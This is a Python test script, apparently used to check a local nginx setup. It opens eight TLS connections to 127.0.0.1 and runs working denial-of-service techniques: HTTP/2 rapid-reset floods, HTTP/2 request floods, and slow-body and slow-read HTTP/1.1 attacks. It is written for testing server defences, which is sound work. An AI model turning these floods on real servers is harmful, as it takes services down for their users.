#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""One attacker with 8 connections over TLS, against 127.0.0.1 only.

    attackers.py resets|flood|body|read PORT FROM SECONDS [TOKEN]

resets: HTTP/2 requests that are taken back at once. flood: HTTP/2 requests as fast as they are answered.
body: bodies, a byte now and then. read: replies that are read a byte now and then. It comes from the
address FROM, signed in where there is a TOKEN. Prints how many requests it began.
"""

import itertools
import os
import socket
import ssl
import struct
import sys
import threading
import time

CONNECTIONS = 8
BATCH = 50
PATHS = [("GET", "/api/v1/auth/check"), ("GET", "/api/v1/me"), ("DELETE", "/api/v1/me/email"),
         ("GET", "/api/v1/openapi.json"), ("GET", "/api/v1/users"), ("GET", "/account/verify")]
begun = itertools.count()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(s):
    """A string of HPACK without Huffman coding (RFC 7541 section 5.2)."""
    s = s.encode()
    if len(s) < 127:
        return bytes([len(s)]) + s
    rest, out = len(s) - 127, [127]
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out + [rest]) + s


def headers(token):
    """Blocks of headers, none of which the peer's table keeps (RFC 7541 section 6.2.2)."""
    for method, path in PATHS:
        fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")]
        if token:
            fields.append(("authorization", "Bearer " + token))
        yield b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def connect(port, source, alpn, small):
    s = socket.socket()
    if small:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    s.settimeout(5)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(s)


def streams(s, blocks, end, reset):
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(8, 0, 0, struct.pack(">I", 2**30)))
    stream = 1
    while time.monotonic() < end:
        out = []
        for _ in range(BATCH):
            out.append(frame(1, 5, stream, blocks[next(begun) % len(blocks)]))
            if reset:
                out.append(frame(3, 0, stream, struct.pack(">I", 8)))
            stream += 2
        s.sendall(b"".join(out))
        if not s.recv(65536):
            return


def drip(s, mode, token, end):
    head = f"Host: localhost\r\nAuthorization: Bearer {token}\r\n"
    next(begun)
    if mode == "body":
        s.sendall(f"PUT /api/v1/me HTTP/1.1\r\n{head}Content-Length: 60000\r\n\r\n{{".encode())
    else:
        s.sendall(f"GET /api/v1/openapi.json HTTP/1.1\r\n{head}\r\n".encode())
    while time.monotonic() < end:
        time.sleep(2)
        if mode == "body":
            s.sendall(b" ")
        elif not s.recv(1):
            return


def attack(mode, port, source, end, token):
    blocks = list(headers(token))
    while time.monotonic() < end:
        try:
            h2 = mode in ("resets", "flood")
            with connect(port, source, "h2" if h2 else "http/1.1", mode == "read") as s:
                if h2:
                    streams(s, blocks, end, mode == "resets")
                else:
                    drip(s, mode, token, end)
        except OSError:
            # nginx has closed it.
            time.sleep(0.01)


def yield_processors():
    """Only what nobody else needs is ours: a session is scheduled as a group, which has a weight of its own."""
    os.setsid()
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    for _ in range(15):
        try:
            with open("/proc/self/autogroup", "w") as f:
                f.write("19")
            return
        except BlockingIOError:
            time.sleep(0.1)  # others than root may change one group at a time
        except OSError:
            return  # there are none


def main():
    yield_processors()
    mode, port, source, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    token = sys.argv[5] if len(sys.argv) > 5 else ""
    end = time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(mode, port, source, end, token)) for _ in range(CONNECTIONS)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(next(begun))


main()
